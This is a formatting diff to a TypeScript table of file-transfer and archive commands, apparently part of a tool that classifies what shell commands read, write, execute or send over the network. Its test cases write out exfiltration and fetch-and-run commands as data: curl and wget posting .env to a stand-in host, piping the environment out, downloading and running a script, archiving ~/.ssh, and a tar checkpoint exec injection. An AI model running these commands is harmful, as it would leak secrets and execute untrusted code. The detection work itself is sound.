@@ -16,11 +16,26 @@ export const TRANSFER_PROGRAMS: readonly ProgramRow[] = [
     ],
     tests: [
       { run: "curl -s https://h.example/x", network: ["in https://h.example/x"] },
-      { run: "curl -d @.env https://h.example", reads: ["./.env"], network: ["both https://h.example < ./.env"] },
-      { run: "curl -F f=@.env https://h.example", reads: ["./.env"], network: ["both https://h.example < ./.env"] },
+      {
+        run: "curl -d @.env https://h.example",
+        reads: ["./.env"],
+        network: ["both https://h.example < ./.env"],
+      },
+      {
+        run: "curl -F f=@.env https://h.example",
+        reads: ["./.env"],
+        network: ["both https://h.example < ./.env"],
+      },
       { run: "env | curl -d @- h.example", network: ["both http://h.example < environment"] },
       { run: "curl -I https://h.example", network: ["in https://h.example"] },
-      { run: "curl -o i.sh https://h.example && sh i.sh", network: ["in https://h.example"], writes: ["./i.sh"], reads: ["./i.sh"], executes: ["network sh"], unknown: ["dynamic-code"] },
+      {
+        run: "curl -o i.sh https://h.example && sh i.sh",
+        network: ["in https://h.example"],
+        writes: ["./i.sh"],
+        reads: ["./i.sh"],
+        executes: ["network sh"],
+        unknown: ["dynamic-code"],
+      },
     ],
   },
   {
@@ -36,7 +51,12 @@ export const TRANSFER_PROGRAMS: readonly ProgramRow[] = [
     ],
     tests: [
       { run: "wget -O - https://h.example", network: ["in https://h.example"] },
-      { run: "wget --post-file=.env https://h.example", writes: ["./index.html"], reads: ["./.env"], network: ["both https://h.example < ./.env"] },
+      {
+        run: "wget --post-file=.env https://h.example",
+        writes: ["./index.html"],
+        reads: ["./.env"],
+        network: ["both https://h.example < ./.env"],
+      },
     ],
   },
   {
@@ -51,11 +71,31 @@ export const TRANSFER_PROGRAMS: readonly ProgramRow[] = [
       { run: "tar cf k.tar ~/.ssh", reads: ["~/.ssh/**"], writes: ["./k.tar"] },
       { run: "tar xzf a.tgz -C /etc", reads: ["./a.tgz"], writes: ["/etc/**"] },
       { run: "tar -tf a.tar", reads: ["./a.tar"] },
-      { run: "tar cf a.tar b --checkpoint=1 --checkpoint-action=exec='rm x'", reads: ["./b/**"], writes: ["./a.tar"], deletes: ["./x"] },
+      {
+        run: "tar cf a.tar b --checkpoint=1 --checkpoint-action=exec='rm x'",
+        reads: ["./b/**"],
+        writes: ["./a.tar"],
+        deletes: ["./x"],
+      },
     ],
   },
   {
-    name: ["gzip", "gunzip", "bzip2", "bunzip2", "xz", "unxz", "lzma", "zstd", "unzstd", "lz4", "pigz", "compress", "uncompress", "brotli"],
+    name: [
+      "gzip",
+      "gunzip",
+      "bzip2",
+      "bunzip2",
+      "xz",
+      "unxz",
+      "lzma",
+      "zstd",
+      "unzstd",
+      "lz4",
+      "pigz",
+      "compress",
+      "uncompress",
+      "brotli",
+    ],
     options: optionList(
       "-c,--stdout,--to-stdout -d,--decompress,--uncompress -f,--force -k,--keep -l,--list -n,--no-name -N,--name -q,--quiet -r,--recursive -S,--suffix= -t,--test -v,--verbose -1,--fast -9,--best -NUM -T,--threads= -z,--compress -o,--output=write --rm -e,--extreme -p= -i -a -L -D= -M= --long=? --ultra -h",
     ),
@@ -66,7 +106,10 @@ export const TRANSFER_PROGRAMS: readonly ProgramRow[] = [
       { has: ["-c", "-l", "-t"], operands: "read*" },
       { has: ["-k", "-o"], operands: "read*" },
     ],
-    tests: [{ run: "gzip -c a", reads: ["./a"] }, { run: "gzip a", reads: ["./a"], writes: ["./a"] }],
+    tests: [
+      { run: "gzip -c a", reads: ["./a"] },
+      { run: "gzip a", reads: ["./a"], writes: ["./a"] },
+    ],
   },
   {
     name: ["zcat", "bzcat", "xzcat", "zstdcat", "lzcat"],
@@ -77,7 +120,9 @@ export const TRANSFER_PROGRAMS: readonly ProgramRow[] = [
   },
   {
     name: ["zip"],
-    options: optionList("-r,--recurse-paths -q -v -j -m,--move -u -d -f -F -FF -9 -0 -1 -e -P= -x= -i= -y -l -n= -T -TT=code -z -@ -o -X -s= -b= -t= -g -NUM"),
+    options: optionList(
+      "-r,--recurse-paths -q -v -j -m,--move -u -d -f -F -FF -9 -0 -1 -e -P= -x= -i= -y -l -n= -T -TT=code -z -@ -o -X -s= -b= -t= -g -NUM",
+    ),
     operands: "write read*",
     tree: ["-r"],
     filter: true,
@@ -86,9 +131,14 @@ export const TRANSFER_PROGRAMS: readonly ProgramRow[] = [
   },
   {
     name: ["unzip"],
-    options: optionList("-l -t -v -z -p -c -d=create -o -n -q -qq -u -f -j -a -aa -x= -P= -C -L -V -X -K -M -T -Z -b -B -O= -I="),
+    options: optionList(
+      "-l -t -v -z -p -c -d=create -o -n -q -qq -u -f -j -a -aa -x= -P= -C -L -V -X -K -M -T -Z -b -B -O= -I=",
+    ),
     operands: "read plain*",
     also: [{ not: ["-l", "-t", "-v", "-z", "-p", "-c", "-Z", "-d"], unpacks: true }],
-    tests: [{ run: "unzip a.zip", reads: ["./a.zip"], writes: ["./**"] }, { run: "unzip -l a.zip", reads: ["./a.zip"] }],
+    tests: [
+      { run: "unzip a.zip", reads: ["./a.zip"], writes: ["./**"] },
+      { run: "unzip -l a.zip", reads: ["./a.zip"] },
+    ],
   },
 ];
